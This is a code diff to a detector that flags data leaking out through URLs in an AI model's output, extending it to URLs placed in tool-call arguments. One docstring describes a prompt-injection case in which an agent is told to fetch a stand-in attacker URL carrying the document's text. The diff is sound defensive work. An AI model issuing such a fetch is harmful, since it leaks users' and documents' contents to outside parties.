@@ -30,7 +30,7 @@ from detectors.exfil.flows import ConversationIndex, Flow, FlowTracer
 from detectors.exfil.masking import Masker
 from detectors.exfil.measures import shannon_entropy, words
 
-Render = Literal["image", "link", "bare"]
+Render = Literal["image", "link", "bare", "fetch"]  # fetch: a URL in a tool call's arguments
 
 # ``![alt]`` then a ``[label]``, an inline destination ``(`` or nothing (RE2: linear time on any text)
 _IMAGE_REFERENCE = re2.compile(r"!\[([^\]\n]*)\](?:\[([^\]\n]*)\]|(\())?")
@@ -74,6 +74,21 @@ FILE_EXTENSIONS = frozenset(
     {"png", "gif", "jpg", "jpeg", "webp", "svg", "ico", "bmp", "avif", "tif", "tiff", "css", "js", "json"}
     | {"xml", "html", "htm", "txt", "pdf", "php", "asp", "aspx", "jsp"}
 )
+
+
+_URL_NAMES: dict[Render, str] = {
+    "image": "an image URL",
+    "link": "a link URL",
+    "bare": "a bare URL",
+    "fetch": "a URL in a tool call",
+}
+
+
+def _cited(url: str, index: ConversationIndex) -> bool:
+    """Whether ``url`` was written in the input as it is (a link in a document or a tool result): following it
+    sends nothing the page did not already hold."""
+    written = url.lower()
+    return any(written in text for text, _ in index.texts)
 
 
 def _url_extend(text: str, start: int, end: int) -> tuple[int, int]:
@@ -252,7 +267,7 @@ class UrlExfilCheck:
             return None
         if context.profile.domain_allowed(host):
             return None
-        render = render_kind(segment.text, hit.start) if segment.field == COMPLETION else "link"
+        render = render_kind(segment.text, hit.start) if segment.field == COMPLETION else "fetch"
         found: list[tuple[Carrier, list[Flow], tuple[str, ...] | None]] = []
         user_keys = context.user_keys()
         for carrier in carriers(url):
@@ -262,6 +277,8 @@ class UrlExfilCheck:
             if not index:
                 index.append(self.tracer.index(context, context.earlier))
             flows = [f for f in self.tracer.trace(carrier.value, index[0]) if self._counts(f, render, user_keys)]
+            if render == "fetch" and _cited(hit.value, index[0]):  # a link the tool follows, copied from the input
+                flows = [flow for flow in flows if flow.what != "conversation"]
             if flows or opaque:
                 found.append((carrier, flows, opaque))
             if any(flow.transforms and flow.what != "conversation" for flow in flows):
@@ -278,14 +295,15 @@ class UrlExfilCheck:
     @staticmethod
     def _counts(flow: Flow, render: Render, user_keys: set[str]) -> bool:
         """Whether a flow counts for this URL. Links (a click away) often cite their source: a readable passage
-        (a slug, a search query) counts only in an auto-loading image or when it was encoded to hide it; PII the
-        user typed in counts only in an image."""
+        (a slug, a search query) counts only in an auto-loading image, in a URL a tool fetches (no click either: an
+        injected agent told to "fetch https://attacker/?q=<the document>") or when it was encoded to hide it; PII
+        the user typed in counts only in an image."""
         if render == "image":
             return True
         if flow.what == "pii":
             return flow.key not in user_keys
         if flow.what == "conversation":
-            return any(t in ("base64", "hex") for t in flow.transforms)
+            return render == "fetch" or any(t in ("base64", "hex") for t in flow.transforms)
         return True
 
     @staticmethod
@@ -343,7 +361,7 @@ class UrlExfilCheck:
             event_ids=[event.id],
             timestamp=event.timestamp,
             identity=event.identity,
-            message=f"{', '.join(whats)} sent to {host} in {'an' if render == 'image' else 'a'} {render} URL",
+            message=f"{', '.join(whats)} sent to {host} in {_URL_NAMES[render]}",
             score=1.0 if rule.level == "critical" else 0.8 if rule.level == "high" else 0.5,
             evidence=evidence,
         )
